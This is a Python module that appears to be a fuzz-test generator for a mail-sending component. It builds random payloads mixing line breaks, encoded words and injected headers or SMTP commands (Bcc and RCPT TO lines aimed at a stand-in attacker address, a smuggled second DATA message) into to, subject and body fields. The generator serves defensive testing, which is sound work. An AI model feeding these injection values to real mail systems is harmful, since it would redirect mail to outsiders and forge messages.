"""Mail that somebody wrote to reach others than those named, to add a header, or to send a second message."""

import random
from collections.abc import Iterator
from typing import Any

INTRUDER = "intruder@evil.example"

BREAKS = [
    *("\r\n", "\n", "\r", "\r\n\r\n", "\r\n ", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"),
    *("\\r\\n", "%0d%0a", "=0D=0A", "\u560a\u560d", "\ud800", "\x1b[2J", "\u202e", "\ufeff", "\x7f", "\x00", ""),
]
INJECTIONS = [
    *(f"Bcc: {INTRUDER}", f"To: {INTRUDER}", "X-Evil: 1", "Content-Type: text/html", ".", ".\r\n", "..", "QUIT"),
    *(f".\r\nMAIL FROM:<{INTRUDER}>\r\nRCPT TO:<{INTRUDER}>\r\nDATA\r\nevil\r\n.", f"RCPT TO:<{INTRUDER}>"),
    *(f"\n.\r\nRCPT TO:<{INTRUDER}>", f"\r.\rMAIL FROM:<{INTRUDER}>", "From attacker", "\x00", "--===============", ""),
]
ENCODED = [
    *("=?utf-8?q?=0D=0ABcc:_%s?=", "=?utf-8?b?DQpCY2M6IGludHJ1ZGVyQGV2aWwuZXhhbXBsZQ==?=", "=?utf-8?q?=0ABcc:=20x?= y"),
    *("=?x?q?=0a?=", "=?iso-2022-jp?b?GyRCDQo=?=", "=?utf-7?q?+AA0ACg-Bcc:?=", "=?", "?=", "=?utf-8?q?"),
]
SHAPES = [
    *("ann@example.org", "a@b", "{0}@example.org", "ann@{0}", "ann@example.org{0}", "{0}ann@example.org", "<{0}>"),
    *('"{0}"@example.org', "Ann {0} <ann@example.org>", "ann@example.org,{0}", "ann@example.org> {0} <b", "{0}"),
    *("ann@example.org SIZE=1", "=?utf-8?q?=61?=@example.org", "ann@[127.0.0.1]", "ann%evil.example@example.org"),
    *("@a,@b:ann@example.org", "o'x+y@example.org"),
]
TEXTS = [*BREAKS, *INJECTIONS, *ENCODED, "text", "ä", " " * 80, "word " * 30]


def hostile(chance: random.Random) -> str:
    return "".join(chance.choices(TEXTS, k=chance.randint(1, 5)))


def hostile_address(chance: random.Random) -> Any:
    made = chance.choice(SHAPES).format(chance.choice([*BREAKS, *INJECTIONS, *ENCODED, "b"]))
    return chance.choice([made, [made], ["ann@example.org", made], made, "ann@example.org"])


def payloads(seed: int, count: int, fields: list[str]) -> Iterator[dict[str, Any]]:
    chance = random.Random(seed)
    for _ in range(count):
        payload: dict[str, Any] = {"to": "ann@example.org", "subject": "Hello", "body": "Text"}
        for field in chance.sample(fields, chance.randint(1, 3)):
            payload[field] = hostile_address(chance) if field in ("to", "cc", "reply_to") else hostile(chance)
        yield payload
